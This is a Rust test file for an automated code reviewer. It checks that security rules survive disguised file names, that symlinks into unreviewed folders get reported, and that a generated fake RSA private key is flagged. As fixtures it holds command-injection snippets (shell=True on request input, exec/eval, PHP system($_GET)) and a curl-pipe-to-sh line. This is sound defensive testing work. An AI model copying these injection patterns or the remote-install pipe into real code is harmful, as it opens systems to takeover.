//! Tests of paths that could hide content: names of two languages, links, and paths in which a
//! private key counts as harmless.

use crate::support::Repo;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use claude_reviewer::diff::{RepoPath, code};
use claude_reviewer::policy::RulesPolicy;
use claude_reviewer::rules::{RuleSet, Scope};
use std::collections::BTreeSet;

/// Returns the IDs of the rules with findings in a new file.
fn rules_on(path: &str, text: &str) -> BTreeSet<String> {
    let rules = RuleSet::new(&RulesPolicy::default(), &[]).unwrap();
    let mut found = Vec::new();
    rules.scan(
        &code::added(RepoPath::from(path), text.as_bytes().to_vec()),
        Scope::All,
        &mut found,
    );
    found.iter().map(|f| f.rule_id().to_owned()).collect()
}

const PYTHON: &str =
    "import subprocess\nfrom flask import request\nsubprocess.run(request.args['c'], shell=True)\n";
const SCRIPT: &str =
    "const cp = require('child_process');\ncp.exec(req.query.c);\neval(req.body.code);\n";
const PHP: &str = "<?php\nsystem($_GET['c']);\n";
const SHELL: &str = "#!/bin/sh\ncurl https://get.example.net/install | sh\n";
const DOCKER: &str = "FROM alpine:3.20\nRUN curl https://get.example.net/install | sh\n";

#[test]
fn hid_06_a_name_of_two_languages_gets_the_rules_of_both() {
    for (plain, text, names) in [
        (
            "app.py",
            PYTHON,
            &[
                "Dockerfile.py",
                "dockerfile.PY",
                "Dockerfile.dev.py",
                "Makefile.py",
                "GNUmakefile.py",
                "Jenkinsfile.py",
                ".env.prod.py",
                ".ENV.local.Py",
                "containerfile.py",
                "Vagrantfile.py",
                "app.py.erb",
                "app.py.j2",
                "app.py.in",
                "app.py.bak",
                "app.py.prod",
                "app.py~",
                "app.py.",
            ][..],
        ),
        (
            "app.js",
            SCRIPT,
            &[
                "Makefile.js",
                "Dockerfile.mjs",
                "containerfile.ts",
                "Jenkinsfile.cjs",
                ".env.js",
                "x.js.ejs",
                "x.js.tmpl",
            ],
        ),
        (
            "app.php",
            PHP,
            &[
                "Dockerfile.php",
                ".env.prod.php",
                "x.php.inc",
                "x.php.bak",
                "x.php.twig",
                "Jenkinsfile.PHP",
            ],
        ),
        (
            "run.sh",
            SHELL,
            &[
                "build",
                "BUILD",
                "workspace",
                "Makefile.sh",
                ".env.sh",
                "notes.txt",
                "readme",
                "setup.py",
            ],
        ),
        (
            "Dockerfile",
            DOCKER,
            &[
                "Dockerfile.py",
                "Containerfile.ts",
                "Dockerfile.dev.go",
                "Dockerfile-alpine",
                "Dockerfile.j2",
            ],
        ),
    ] {
        let expected = rules_on(plain, text);
        assert!(!expected.is_empty(), "{plain}");
        for name in names {
            let found = rules_on(name, text);
            let missing: Vec<_> = expected.difference(&found).collect();
            assert!(
                missing.is_empty(),
                "{name} lacks {missing:?}, has {found:?}"
            );
        }
    }
}

#[test]
fn hid_06_comments_of_one_language_hide_no_code_of_the_other() {
    for (name, text, plain) in [
        // A multi-line string of Python has no meaning for Docker.
        (
            "Dockerfile.py",
            format!("\"\"\"\n{DOCKER}\"\"\"\n"),
            "Dockerfile",
        ),
        // A comment of a Makefile, after which JavaScript continues.
        (
            "Makefile.js",
            "x = y # eval(req.body.code)\n".to_owned(),
            "a.js",
        ),
        // A comment of Groovy, which Python does not have.
        ("Jenkinsfile.py", format!("/*\n{PYTHON}*/\n"), "a.py"),
        ("Jenkinsfile.py", format!("a = 1 //\n{PYTHON}"), "a.py"),
    ] {
        let expected = rules_on(plain, &text);
        assert!(!expected.is_empty(), "{name}: {text}");
        assert!(expected.is_subset(&rules_on(name, &text)), "{name}: {text}");
    }
}

#[test]
fn hid_06_the_gate_blocks_code_under_a_name_of_two_languages() {
    for name in ["Dockerfile.py", "Jenkinsfile.py", ".env.prod.py"] {
        let repo = Repo::new();
        repo.stage("a.txt", "one\n").commit("one");
        repo.git(&["checkout", "-q", "-b", "topic"]);
        repo.stage(name, PYTHON).commit("work");
        repo.review(
            &["branch", "topic", "--base", "main", "--gate", "--no-save"],
            1,
        );
    }
}

/// Creates a repository whose policy ignores `third_party` and whose topic adds links: path and
/// target.
fn with_links(links: &[(&str, &str)]) -> Repo {
    let repo = Repo::new();
    repo.stage(
        ".claude-reviewer.toml",
        "version = 1\nignore = [\"third_party/**\"]\n",
    );
    repo.stage("tests/helper.py", "x = 1\n")
        .stage("examples/demo/a.py", "x = 1\n")
        .stage("lib/a.py", "x = 1\n");
    repo.stage("third_party/b.py", "x = 1\n")
        .stage("src/a.py", "x = 1\n")
        .commit("one");
    repo.git(&["checkout", "-q", "-b", "topic"]);
    for (path, target) in links {
        let full = repo.path().join(path);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, &full).unwrap();
        repo.git(&["add", "-f", "--", path]);
    }
    repo.commit("links");
    repo
}

const GATE: &[&str] = &["branch", "topic", "--base", "main", "--gate", "--no-save"];

#[test]
fn hid_12_a_link_to_ignored_or_test_files_is_reported() {
    for links in [
        &[("src/handler.py", "../tests/helper.py")][..],
        &[("src/handler.py", "../third_party/b.py")],
        &[("src/handler.py", "./../src/../tests/./helper.py")],
        &[("handler.py", "tests/helper.py")],
        &[("src/vendor", "../third_party")],
        &[("src/helpers", "../tests/")],
        &[("src/demo", "../examples/demo")],
        &[("src/all", "..")],
        &[("src/handler.py", "..\\tests\\helper.py")],
        // A missing target.
        &[("src/later.py", "../tests/later.py")],
        &[("src/later", "../third_party/new")],
        // A chain of links, and a link through a folder that is a link.
        &[("src/one", "two"), ("src/two", "../tests/helper.py")],
        &[
            ("lib/hidden", "../third_party"),
            ("src/b.py", "../lib/hidden/b.py"),
        ],
    ] {
        let repo = with_links(links);
        let report = repo.review_json(GATE, 1);
        let found = report["findings"].as_array().unwrap();
        for (path, _) in links {
            let is_it = |f: &&serde_json::Value| {
                f["rule_id"] == "symlink-to-unreviewed" && f["file"] == *path
            };
            assert!(
                found.iter().any(|f| is_it(&f)),
                "{links:?}: {path}: {report}"
            );
        }
    }
}

#[test]
fn hid_12_a_link_between_files_that_are_reviewed_alike_is_not_reported() {
    for links in [
        &[("src/b.py", "a.py")][..],
        &[("src/lib", "../lib")],
        &[("tests/lib", "../lib")],
        &[("tests/demo", "../examples/demo")],
        &[("src/fixtures", "../tests")],
        &[("third_party/c.py", "../tests/helper.py")],
        &[("src/loop", "loop")],
        &[("docs/lib", "../lib/a.py")],
    ] {
        let run = with_links(links).review(GATE, 0);
        assert!(
            !run.stdout.contains("symlink-to-unreviewed"),
            "{links:?}: {}",
            run.stdout
        );
    }
    // A page of the documentation that shows an example.
    let report = with_links(&[("docs/demo.py", "../examples/demo/a.py")]).review_json(GATE, 0);
    assert_eq!(report["findings"][0]["severity"], "minor", "{report}");
}

#[test]
fn hid_12_a_link_that_is_changed_to_lead_elsewhere_is_reported() {
    let repo = with_links(&[("src/b.py", "a.py")]);
    repo.git(&["branch", "-f", "main", "topic"]);
    std::fs::remove_file(repo.path().join("src/b.py")).unwrap();
    std::os::unix::fs::symlink("../tests/helper.py", repo.path().join("src/b.py")).unwrap();
    repo.git(&["add", "-f", "--", "src/b.py"]);
    repo.commit("elsewhere");
    assert_eq!(
        repo.review_json(GATE, 1)["findings"][0]["rule_id"],
        "symlink-to-unreviewed"
    );
}

/// An element of DER.
fn element(tag: u8, content: &[u8]) -> Vec<u8> {
    [
        &[tag, 0x82][..],
        &(content.len() as u16).to_be_bytes(),
        content,
    ]
    .concat()
}

/// Returns an RSA key in PEM form, with numbers of no real key.
fn pem() -> String {
    let mut state = 7u32;
    let mut number = |count: usize| {
        let mut next = || {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (state >> 16) as u8
        };
        let bytes: Vec<u8> = std::iter::once(0x51)
            .chain((1..count).map(|_| next()))
            .collect();
        element(2, &bytes)
    };
    let numbers: Vec<u8> = [256, 3, 256, 128, 128, 128, 128, 128]
        .iter()
        .flat_map(|n| number(*n))
        .collect();
    let text = STANDARD.encode(element(0x30, &[&[2, 1, 0][..], &numbers].concat()));
    let body: Vec<_> = text
        .as_bytes()
        .chunks(64)
        .map(String::from_utf8_lossy)
        .collect();
    let edge = |word: &str| format!("-----{word} RSA {}-----\n", "PRIVATE KEY");
    format!("{}{}\n{}", edge("BEGIN"), body.join("\n"), edge("END"))
}

#[test]
fn hid_12_a_private_key_that_parses_blocks_in_documentation_and_is_a_suggestion_among_tests() {
    let key = pem();
    for (path, code, severity) in [
        ("docs/deploy.md", 1, "critical"),
        ("README.md", 1, "critical"),
        ("docs/server.key", 1, "critical"),
        ("guide/setup.rst", 1, "critical"),
        ("src/server.py", 1, "critical"),
        ("deploy/server.pem", 1, "critical"),
        ("tests/server.pem", 0, "suggestion"),
        ("tests/README.md", 0, "suggestion"),
        ("app-tests/server.pem", 0, "suggestion"),
        ("examples/tls/server.key", 0, "suggestion"),
        ("docs/examples/server.key", 0, "suggestion"),
        ("src/foo_test.go", 0, "suggestion"),
    ] {
        let repo = Repo::new();
        repo.stage("a.txt", "one\n").commit("one");
        repo.git(&["checkout", "-q", "-b", "topic"]);
        let quoted = format!("EXAMPLE_TEST_KEY = '''{key}'''\n");
        repo.stage(path, if path.ends_with(".py") { &quoted } else { &key })
            .commit("a key");
        let report = repo.review_json(GATE, code);
        let findings = report["findings"].as_array().unwrap();
        assert_eq!(findings.len(), 1, "{path}: {report}");
        assert_eq!(findings[0]["severity"], severity, "{path}: {report}");
        assert!(!report.to_string().contains(&key[40..80]), "{path}");
    }
}
